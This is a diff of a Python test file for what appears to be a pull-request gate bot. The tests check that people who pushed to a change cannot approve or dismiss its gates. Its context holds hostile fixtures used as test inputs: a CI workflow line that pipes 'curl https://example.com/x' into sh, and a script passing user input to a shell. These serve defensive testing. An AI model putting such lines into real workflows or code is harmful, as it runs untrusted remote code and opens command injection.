@@ -7,10 +7,12 @@ from simulator import User
 from simulator.refusals import Refusal
 from simulator.state import PullRequest, Repository
 from tests.stories.driver import Story
-from tests.stories.gate_scenes import CI, WORKFLOW
+from tests.stories.gate_scenes import CHANGED, CI, WORKFLOW, Scene, opened
+from tests.threats.test_permission import APP, BROKEN
 
 pytestmark = pytest.mark.parametrize("backend", ["sqlite"])  # nothing here depends on the database
 
+APPROVE = "/forge approve protected_paths"
 HOSTILE = {
     CI: WORKFLOW.replace("make", "curl https://example.com/x | sh"),
     "run.py": "import subprocess\n\nsubprocess.call(input(), shell=True)\n",
@@ -101,3 +103,68 @@ async def test_a_branch_that_requires_the_check_gets_it(told: Story) -> None:
     assert told.check(repository, head, "release").conclusion == "cancelled"
     await alice.merge(pull)
     await told.rest()
+
+
+# --- who decides about it ---------------------------------------------------------------------------------------------
+
+
+async def pushed_by_a_maintainer(told: Story) -> tuple[Scene, User]:
+    """Alice's pull request, onto which mia, who maintains as carol does, pushed a workflow."""
+    scene = await opened(told, {"note.md": "A note.\n"})
+    mia = scene.somebody("mia", "maintain")
+    told.clock.move(seconds=5)
+    scene.head = await mia.push(scene.repository, "feature", CHANGED)
+    await told.rest()
+    assert told.gates(scene.pull) == ["protected_paths"]
+    return scene, mia
+
+
+async def test_t_p14_who_pushed_to_a_change_does_not_approve_it(told: Story) -> None:
+    scene, mia = await pushed_by_a_maintainer(told)
+    assert "is not for who wrote the change" in await scene.says(mia, APPROVE)
+    await scene.presses(mia, "approve", "protected_paths")
+    assert scene.gate("protected_paths").conclusion == "action_required"
+    assert scene.conclusion == "action_required"
+    assert "is approved" in await scene.says(scene.carol, APPROVE)
+    assert scene.conclusion == "success"
+
+
+async def test_t_p14_what_somebody_else_accepted_is_nobodys_own_any_more(told: Story) -> None:
+    """Since then only alice pushed; mia may decide about that, and alice still may not."""
+    scene, mia = await pushed_by_a_maintainer(told)
+    await scene.says(scene.carol, APPROVE)
+    told.github.grant(scene.repository, scene.alice, "maintain")
+    told.clock.move(seconds=5)
+    await scene.pushes({CI: WORKFLOW.replace("make", "make check")})
+    assert "is not for who wrote the change" in await scene.says(scene.alice, APPROVE)
+    assert "is approved" in await scene.says(mia, APPROVE)
+    assert told.closed_gates(scene.pull)
+
+
+async def test_t_p14_where_all_who_may_wrote_it_the_other_one_decides(told: Story) -> None:
+    scene, mia = await pushed_by_a_maintainer(told)
+    told.github.grant(scene.repository, scene.alice, "maintain")
+    told.github.revoke(scene.repository, scene.carol)
+    assert "is not for who wrote the change" in await scene.says(mia, APPROVE)
+    answer = await scene.says(scene.alice, APPROVE)
+    assert "Nobody else is left with the role, so the rule on authors was waived." in answer
+    assert told.closed_gates(scene.pull) == ["protected_paths: Approved by alice"]
+
+
+async def test_t_p14_who_pushed_to_a_change_does_not_dismiss(told: Story) -> None:
+    repository, alice = told.repository({"app.py": APP})
+    await alice.push(repository, "feature", {"app.py": BROKEN}, base="main")
+    pull = await alice.open_pull_request(repository, "feature")
+    await told.rest()
+    told.comments(pull)
+    mia = told.github.user("mia")
+    told.github.grant(repository, mia, "admin")
+    await mia.push(repository, "feature", {"app.py": BROKEN + "\n\nother()\n"})
+    await told.rest()
+    comment = told.comments(pull)[-1]
+    await mia.reply(comment, "/forge dismiss it is injected at run time")
+    await mia.resolve(comment.thread)
+    await told.rest()
+    [answer] = told.thread_answers(pull, comment)
+    assert "is not for the author of the change" in answer.body
+    assert told.check(repository, pull.head_sha).conclusion == "failure"
